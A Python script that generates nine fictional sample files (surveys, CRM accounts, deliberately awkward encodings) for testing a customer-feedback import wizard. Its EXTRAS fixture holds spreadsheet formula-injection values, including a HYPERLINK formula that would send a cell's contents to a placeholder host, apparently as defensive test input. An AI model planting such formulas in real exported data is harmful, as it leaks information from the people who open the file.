"""Write `uploads/`, nine files to try the wizard with: `python -m sample_data.make_uploads`."""

import sys
from collections.abc import Callable
from datetime import date, datetime, timedelta
from pathlib import Path
from random import Random
from typing import Final

from openpyxl import Workbook
from openpyxl.styles import Font

from sample_data import fact_uploads
from sample_data.guests import Guests, known_accounts
from sample_data.stories import SILENT_DECIDERS, WATERMELON
from sample_data.tables import Row, delimited, workbook

FOLDER: Final = Path(__file__).parent / "uploads"
WORDS: Final = ("非常不满意", "不满意", "一般", "满意", "非常满意")
SKIPPED: Final = ("-99", "N/A", "未作答")


def english_survey() -> bytes:
    """A clean survey: one NPS and one CSAT question, e-mail and role of everybody."""
    guests = Guests("english")
    rows: list[Row] = [
        [
            "Response ID",
            "Submitted at",
            "Company",
            "Respondent",
            "Email",
            "Job title",
            "Role",
            "How likely are you to recommend Hengyan? (0-10)",
            "What is the main reason for your score?",
            "How satisfied are you with our support? (1-5)",
        ]
    ]
    roles = {"user": "User", "manager": "Manager", "decision_maker": "Decision maker"}
    for i, (account, person) in enumerate(guests.pick(64, "Germany", "United States"), start=1):
        nps = guests.random.choice((10, 9, 9, 9, 8, 8, 7, 6, 5, 3))
        about = guests.comment(person, "any", (nps > 8) - (nps < 7))
        csat = max(1, min(5, round(nps / 2) + guests.random.choice((-1, 0, 0, 1))))
        day = guests.day(date(2026, 5, 4), 40)
        who = [person.name, person.email, person.title, roles[person.role]]
        rows.append([f"R-{1000 + i}", day, account.name, *who, nps, about, csat])
    return delimited(rows, ",", "\n").encode()


def chinese_questionnaire() -> bytes:
    """A workbook as a Chinese survey tool writes it: title rows above, answers in words."""
    guests = Guests("chinese")
    book = Workbook()
    sheet = book.active
    sheet.title = "答卷数据"
    sheet.append(["衡砚客户满意度调查（2026年第二季度）"])
    sheet.merge_cells("A1:I1")
    sheet["A1"].font = Font(bold=True, size=14)
    sheet.append(["导出时间：2026-06-20  共 48 份"])
    sheet.append([])
    sheet.append(
        [
            "序号",
            "公司名称",
            "姓名",
            "职务",
            "提交时间",
            "您对系统日常使用的满意程度",
            "您对工单服务的满意程度",
            "您有多大可能向同行推荐我们？（0-10分）",
            "您的意见和建议",
        ]
    )
    for i, (account, person) in enumerate(guests.pick(48, "China"), start=1):
        level = guests.random.choice((0, 1, 2, 3, 3, 3, 4, 4))
        other = max(0, min(4, level + guests.random.choice((-1, 0, 1))))
        nps = (2, 4, 7, 8, 10)[level]
        day = datetime(2026, 6, 1, 8) + timedelta(minutes=guests.random.randrange(26_000))
        about = guests.comment(person, "daily_use", (level > 2) - (level < 2))
        who = [account.name, person.name, person.title, day]
        sheet.append([i, *who, WORDS[level], WORDS[other], nps, about])
    return workbook(book)


def crm_accounts() -> bytes:
    """A CRM export: semicolons, a byte-order mark, accounts known and new, some ARR changed."""
    guests = Guests("crm")
    rows: list[Row] = [
        [
            "Account ID",
            "Account Name",
            "Region",
            "Industry",
            "Segment",
            "Tier",
            "ARR",
            "Currency",
            "CSM",
            "Contract Start",
            "Renewal Date",
            "Renewal Type",
        ]
    ]
    for account in guests.random.sample(known_accounts(), 24):
        arr = round(account.arr * guests.random.choice((1, 1, 1.1, 0.9)))
        days = [account.contract_start, account.renewal_on]
        facts = [account.region, account.industry, account.segment, account.tier]
        money = [arr, account.currency, account.csm]
        rows.append(
            [f"HY-{account.id:05d}", account.name, *facts, *money, *days, account.renewal_kind]
        )
    for new in NEW_ACCOUNTS:
        rows.append(new)
    return b"\xef\xbb\xbf" + delimited(rows, ";", "\r\n").encode()


NEW_ACCOUNTS: Final[tuple[Row, ...]] = (
    ("HY-00901", "Falkenried Glas", "Germany", "chemicals", "Mid-market", "standard", 186000, "EUR",
     "Jonas Reuter", "2026-04-01", "2027-04-01", "negotiated"),
    ("HY-00902", "Pelican Bay Foods", "United States", "food", "Small", "standard", 54000, "USD",
     "Megan Alder", "2026-05-15", "2027-05-15", "auto"),
    ("HY-00903", "澜舟传感", "China", "electronics", "Mid-market", "standard", 420000, "CNY",
     "林珊 Lin Shan", "2026-03-01", "2027-03-01", "tender"),
)  # fmt: skip


def awkward_gb18030() -> bytes:
    """Awkward: GB18030, days that may be either, skip codes, twin headings, bad scores, typos."""
    guests = Guests("gb18030")
    rows: list[Row] = [
        [
            "答卷编号",
            "客户名称",
            "填写人",
            "填写日期",
            "培训满意度(1-5)",
            "评分",
            "评分",
            "文字说明",
        ]
    ]
    for i, (account, person) in enumerate(guests.pick(36, "China"), start=1):
        day = f"{guests.random.randint(1, 12):02d}/{guests.random.randint(3, 6):02d}/2026"
        csat = _or_skipped(guests.random.choice("54443221"), guests.random)
        marks = [_or_skipped(guests.random.randint(4, 10), guests.random) for _ in range(2)]
        verdict = 1 if csat in ("4", "5") else 0
        about = guests.comment(person, "training", verdict)
        rows.append([f"A{i:03d}", account.name, person.name, day, csat, *marks, about])
    rows[3] = _changed(rows[3], 1, MISSPELT[AUTO_PARTS])
    rows[9] = _changed(rows[9], 1, MISSPELT[SILENT_DECIDERS])
    rows[12] = _changed(rows[12], 4, "11")
    rows[18] = _changed(rows[18], 4, "很好")
    return delimited(rows, ",", "\r\n").encode("gb18030")


AUTO_PARTS: Final = "璟域汽车零部件"
MISSPELT: Final = {
    AUTO_PARTS: "璟域汽车零配件",
    SILENT_DECIDERS: "Straitwell Precison",
    WATERMELON: "Cinder Rigde Motors",
}
"""How an account of the demo is misspelt in the awkward files; matching proposes the right one."""


def awkward_utf16() -> bytes:
    """Awkward: UTF-16, tabs, three questions with their comments per row, newlines, formulas."""
    guests = Guests("utf16")
    rows: list[Row] = [
        [
            "Record ID",
            "Account",
            "Respondent",
            "Email",
            "Completed (YYYY-MM-DD)",
            "NPS: How likely are you to recommend us? (0-10)",
            "NPS: Why this score?",
            "CSAT: Satisfaction with the last upgrade (1-5)",
            "CSAT: What should we know about the upgrade?",
            "CES: How easy was it to find help? (1-7, 7 = very easy)",
            "Anything else?",
        ]
    ]
    for i, (account, person) in enumerate(guests.pick(40, "Singapore", "Germany"), start=1):
        nps, csat, ces = (
            guests.random.randint(low, high) for low, high in ((4, 10), (1, 5), (3, 7))
        )
        why = guests.comment(person, "any", (nps > 8) - (nps < 7))
        upgrade = guests.comment(person, "release_upgrade", (csat > 3) - (csat < 3))
        who = [f"=R{i}" if i == 7 else f"U{i:03d}", account.name, person.name, person.email]
        scores = [nps, _two_lines(why) if i % 5 == 0 else why, csat, upgrade, ces]
        rows.append([*who, guests.day(date(2026, 5, 20), 30), *scores, EXTRAS.get(i, "")])
    rows[2] = _changed(_changed(rows[2], 1, MISSPELT[WATERMELON]), 3, "")
    return b"\xff\xfe" + delimited(rows, "\t", "\r\n").encode("utf-16-le")


EXTRAS: Final = {
    3: '=HYPERLINK("http://example.invalid/?x="&A1,"open")',
    6: "+1 for the new order board",
    11: "@all: call the hotline, do not mail",
    14: "-2 lines still wait for the scanner",
    20: 'He said "fine",\tthen hung up.\n\nNo call back since.',
}
"""Last cells by row: what a spreadsheet would run, and quotes, tabs and newlines."""

FILES: Final[dict[str, Callable[[], bytes]]] = {
    "english_survey.csv": english_survey,
    "chinese_questionnaire.xlsx": chinese_questionnaire,
    "crm_accounts.csv": crm_accounts,
    "invitations.csv": fact_uploads.invitations,
    "usage.xlsx": fact_uploads.usage,
    "commerce.csv": fact_uploads.commerce,
    "outcomes.csv": fact_uploads.outcomes,
    "awkward_gb18030.csv": awkward_gb18030,
    "awkward_utf16.tsv": awkward_utf16,
}


def write(folder: Path = FOLDER) -> None:
    """Write the nine files into `folder`; the same bytes every time."""
    folder.mkdir(parents=True, exist_ok=True)
    for name, content in FILES.items():
        (folder / name).write_bytes(content())


def _or_skipped(score: object, random: Random) -> str:
    """Return a score, now and then what a tool writes where nothing was answered."""
    return random.choice(SKIPPED) if random.random() < 0.15 else str(score)


def _changed(row: Row, at: int, value: object) -> Row:
    return [value if i == at else cell for i, cell in enumerate(row)]


def _two_lines(text: str) -> str:
    return text.replace(". ", ".\n", 1).replace("。", "。\n", 1)


if __name__ == "__main__":
    write(Path(sys.argv[1]) if len(sys.argv) > 1 else FOLDER)
